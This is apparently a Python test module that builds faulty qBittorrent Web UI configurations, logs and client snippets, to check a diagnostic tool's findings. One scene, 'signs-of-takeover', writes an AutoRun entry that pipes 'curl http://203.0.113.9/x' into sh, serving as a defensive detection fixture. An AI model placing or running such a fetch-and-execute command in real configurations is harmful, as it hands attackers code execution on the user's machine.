"""Scenes of pages whose commands read files: the configuration, the log, a client's code."""

from __future__ import annotations

import json
import os
import re
import shutil
from pathlib import Path

import requests

from tests.kit import faults
from tests.kit.proxies import EditingProxy, without
from tests.kit.server import config_text
from tests.support.page_scenes import Place, Told, scene, values

LISTED = {"AuthSubnetWhitelistEnabled": "true", "AuthSubnetWhitelist": "192.168.7.0/24"}


def copied(at: Place, more: str = "", **settings: str) -> dict[str, str]:
    """The values of a configuration that no process has: what the page reads is the file."""
    file = at.home / "qBittorrent.conf"
    text = config_text(settings, layout="new" if at.new_layout else "old", port=8080)
    file.write_text(text + more)
    return {"config_file": str(file), "version": at.release.version, "port": "8080", "server_port": "8080"}


@scene("signs-of-takeover")
def _takeover(at: Place, fault: bool) -> Told:
    command = "curl http://203.0.113.9/x | sh" if fault else ""
    return copied(at, f"\n[AutoRun]\nenabled=true\nprogram={command}\n"), lambda out: "curl" in out[0]


@scene("webui-disabled", since=(4, 6))
def _disabled(at: Place, fault: bool) -> Told:
    running = at.server(settings={"Enabled": "false"} if fault else {}, wait=not fault)
    return values(running), lambda out: "Enabled=false" in out[0]


@scene("settings-not-migrated", since=(5, 3))
def _not_migrated(at: Place, fault: bool) -> Told:
    old = b"[LegalNotice]\nAccepted=true\n[Meta]\nMigrationVersion=9999\n[Preferences]\nWebUI\\Port=%PORT%\n"
    running = at.server(**({"raw_config": old, "wait": False} if fault else {}))
    return values(running), lambda out: bool(re.search(r"Version=(9999|1[1-9])", out[0]) and "WebUI\\Port" in out[0])


@scene("waiting-at-legal-notice")
def _notice(at: Place, fault: bool) -> Told:
    raw = config_text({}, layout="new" if at.new_layout else "old", port=1).replace("Accepted=true", "Accepted=false")
    running = at.server(**({"raw_config": raw.encode(), "terminal": True, "wait": False} if fault else {}))
    return values(running), lambda out: "Accepted=true" not in out[0]


@scene("config-from-newer-release", until=(5, 3))
def _newer(at: Place, fault: bool) -> Told:
    return values(at.server(layout="new" if fault else "old", wait=not fault)), lambda out: "[WebUI]" in out[0]


@scene("empty-username")
def _no_name(at: Place, fault: bool) -> Told:
    found = copied(at, Username="" if fault else "admin")
    return found, lambda out: bool(re.search(r"Username=\s*$", out[0]))


@scene("config-permission")
def _foreign(at: Place, fault: bool) -> Told:
    found = copied(at)
    os.chown(at.home, 12345 if fault else os.getuid(), -1)
    return found, lambda out: bool(re.search(r"(?m)^d\S+ +\d+ +12345 .* \.$", out[0]))


@scene("env-override")
def _option(at: Place, fault: bool) -> Told:
    running = at.server(extra_args=["--webui-port=28087"] if fault else [], wait=not fault)
    mine = f"--profile={running.profile}"
    return values(running), lambda out: any(mine in one and "--webui-port" in one for one in out[0].splitlines())


@scene("config-lost")
def _lost(at: Place, fault: bool) -> Told:
    found = copied(at)
    if fault:
        Path(found["config_file"]).write_bytes(b"")
    return found, lambda out: int(out[0].split()[4]) < 300


@scene("leftover-new-file")
def _leftover(at: Place, fault: bool) -> Told:
    found = copied(at)
    if fault:
        shutil.copy(found["config_file"], at.home / "qBittorrent_new.conf")
    return found, lambda out: "qBittorrent_new.conf" in out[0]


@scene("wrong-config-file")
def _other_file(at: Place, fault: bool) -> Told:
    running = at.server()
    mine = str(at.home / "qBittorrent.conf") if fault else str(running.config_file)
    return values(running, config_file=mine), lambda out: str(Path(mine).parent) not in out[0]


@scene("edited-while-running")
def _edited(at: Place, fault: bool) -> Told:
    running = at.server(settings={"LocalHostAuth": "true"})
    if fault:
        text = running.config_file.read_text()
        running.config_file.write_text(text.replace("LocalHostAuth=true", "LocalHostAuth=false"))

    def tells(out: list[str]) -> bool:
        server = next(json.loads(text) for text in out if text.startswith("{"))
        return ("LocalHostAuth=false" in out[0]) != bool(server["bypass_local_auth"])

    return values(running), tells


@scene("ambiguous-setting")
def _ambiguous(at: Place, fault: bool) -> Told:
    running = at.server(settings={"LocalHostAuth": "off" if fault else "true"})

    def tells(out: list[str]) -> bool:
        server = next(json.loads(text) for text in out if text.startswith("{"))
        return "LocalHostAuth=off" in "".join(out) and not server["bypass_local_auth"]

    return values(running), tells


@scene("misplaced-key")
def _misplaced(at: Place, fault: bool) -> Told:
    line = at.line("LocalHostAuth", "true")
    end = "" if fault else "[WebUI]\n" if at.new_layout else "[Preferences]\n"
    found = copied(at, f"\n[Zebra]\nkey=1\n{end}WebUI\\LocalHostAuth=true\n" if fault else f"\n{end}{line}\n")

    def tells(out: list[str]) -> bool:
        above = [one.split(": ")[-1] for one in out[0].splitlines()]
        header = next(
            one
            for one in reversed(above[: above.index(next(x for x in above if "LocalHostAuth" in x))])
            if one[0] == "["
        )
        return header not in {"[WebUI]", "[Preferences]"}

    return found, tells


@scene("unknown-key")
def _unknown(at: Place, fault: bool) -> Told:
    found = copied(at, **({"BypassLocalAuth": "true"} if fault else {"LocalHostAuth": "true"}))
    return found, lambda out: "BypassLocalAuth" in out[0]


@scene("whitelist-syntax")
def _syntax(at: Place, fault: bool) -> Told:
    entries = "10.0.0.1-10.0.0.9, 192.168.7.0/24" if fault else "192.168.7.0/24"
    running = at.server(settings={"AuthSubnetWhitelistEnabled": "true", "AuthSubnetWhitelist": entries})
    return values(running), lambda out: any("10.0.0.9" in one for one in out) and "10.0.0.9" not in out[-2]


@scene("session-too-short")
def _short(at: Place, fault: bool) -> Told:
    found = copied(at, SessionTimeout="5" if fault else "3600")
    return found, lambda out: int(out[0].partition("=")[2]) < 60


@scene("forwarded-host-ignored", since=(5, 3))
def _unsupported(at: Place, fault: bool) -> Told:
    found = copied(
        at,
        ReverseProxySupportEnabled="false" if fault else "true",
        TrustedReverseProxiesList="" if fault else "127.0.0.1",
    )
    return found, lambda out: "Enabled=true" not in out[0]


@scene("bypass-cannot-apply")
def _useless(at: Place, fault: bool) -> Told:
    found = copied(at, Address="127.0.0.1" if fault else "*", **LISTED)
    return found, lambda out: "Address=127.0.0.1" in out[0] and "WhitelistEnabled=true" in out[0]


@scene("malformed-password-hash")
def _hash(at: Place, fault: bool) -> Told:
    running = (
        at.server(password=None, settings={"Password_PBKDF2": "5f4dcc3b5aa765d61d8327deb882cf99"})
        if fault
        else at.server()
    )
    return values(running), lambda out: out[0] != "24:88"


@scene("temporary-password", since=(4, 6, 1))
def _temporary(at: Place, fault: bool) -> Told:
    return values(at.server(password=None) if fault else at.server()), lambda out: out[0] == "0"


@scene("alt-webui-broken")
def _no_pages(at: Place, fault: bool) -> Told:
    folder = at.home / "ui"
    (folder / ("nothing" if fault else "public")).mkdir(parents=True, exist_ok=True)
    running = at.server(settings={"AlternativeUIEnabled": "true", "RootFolder": str(folder)}, wait=False)
    running.wait_until_ready()
    return values(running), lambda out: "No such file" in out[1]


# --- the log ----------------------------------------------------------------------------------------------------------


@scene("host-header-missing")
def _no_host(at: Place, fault: bool) -> Told:
    running = at.server()
    up = (lambda _m, _p, headers: without(headers, "host")) if fault else None
    proxy = at.open(EditingProxy(running.url, up=up))
    origin = proxy.url if fault else running.url
    requests.post(f"{proxy.url}/api/v2/auth/login", data={"username": "admin"}, headers={"Origin": origin}, timeout=5)
    return values(running), lambda out: bool(out[0])


@scene("authorization-header-collision", since=(5, 2))
def _basic(at: Place, fault: bool) -> Told:
    running = at.server()
    running.get("/", auth=("proxyuser", "canary")) if fault else running.get("/")
    return values(running), lambda out: "proxyuser" in out[0]


@scene("shared-address-ban")
def _shared(at: Place, fault: bool) -> Told:
    running = at.server()
    if fault:
        running.fail_logins(3)
    return values(running), lambda out: "127.0.0.1" in out[0] and "admin" in out[0]


@scene("ip-banned")
def _banned(at: Place, fault: bool) -> Told:
    running = at.server()
    if fault:
        running.fail_logins(6)
    return values(running), lambda out: "admin" in out[0]


@scene("proxy-hop-untrusted", since=(5, 3))
def _hop(at: Place, fault: bool) -> Told:
    trusted = "127.0.0.1" if fault else '"127.0.0.1;10.0.0.9"'
    running = at.server(settings={"ReverseProxySupportEnabled": "true", "TrustedReverseProxiesList": trusted, **LISTED})
    running.try_login("a good one", headers={"X-Forwarded-For": "203.0.113.5, 10.0.0.9"})
    return values(running), lambda out: out[0].endswith("10.0.0.9")


@scene("whitelist-not-matching")
def _not_in_list(at: Place, fault: bool) -> Told:
    running = at.server(settings={**LISTED, "AuthSubnetWhitelist": "192.168.7.0/24" if fault else "127.0.0.0/8"})
    running.try_login("a good one")
    return values(running), lambda out: "127.0.0.1" in out[0] and "127.0.0" not in out[1]


@scene("client-logs-in-each-call")
@scene("sessions-evicted")
def _many(at: Place, fault: bool) -> Told:
    running = at.server()
    for _ in range(6 if fault else 1):
        running.try_login("a good one")
    return values(running), lambda out: int(out[0]) > 3


# --- a client's code --------------------------------------------------------------------------------------------------


def _code(cause: str, wrong: str, right: str) -> None:
    @scene(cause)
    def _searched(at: Place, fault: bool) -> Told:
        (at.home / "client.py").write_text((wrong if fault else right) + "\n")
        return {"version": at.release.version}, lambda out: "client.py" in out[0]


_code("client-wants-sid-name", 'sid = answer.cookies["SID"]', "session.get(url)")
_code("client-wants-ok-body", 'if answer.text != "Ok.": raise', "answer.raise_for_status()")
_code("client-unknown-filter", 'get("torrents/info?filter=paused")', 'get("torrents/info")')
_code("client-old-add-parameter", 'post("torrents/add", data={"paused": "true"})', 'post("torrents/add")')


@scene("fix-undone-since")
def _undone(at: Place, fault: bool) -> Told:
    from tests.support.doctor import qbdoctor

    running = at.server(settings={"SessionTimeout": "20"})
    made = qbdoctor("fix", "set-session-timeout", "--yes", "--url", running.url, password=running.password)
    assert made.code == 0, made.err
    if fault:
        running.set_preferences({"web_ui_session_timeout": 20})
    at.environment["QBDOCTOR_PASSWORD"] = "a good one"
    return values(running), lambda out: "no longer" in out[0] or "not hold" in out[0]


@scene("host-port-mismatch")
def _mapped(at: Place, fault: bool) -> Told:
    running = at.server()
    more = {"url": at.open(faults.PortMap(running.port)).url} if fault else {}
    return values(running, **more), lambda out: out[:3] == ["401", "403", "403"]
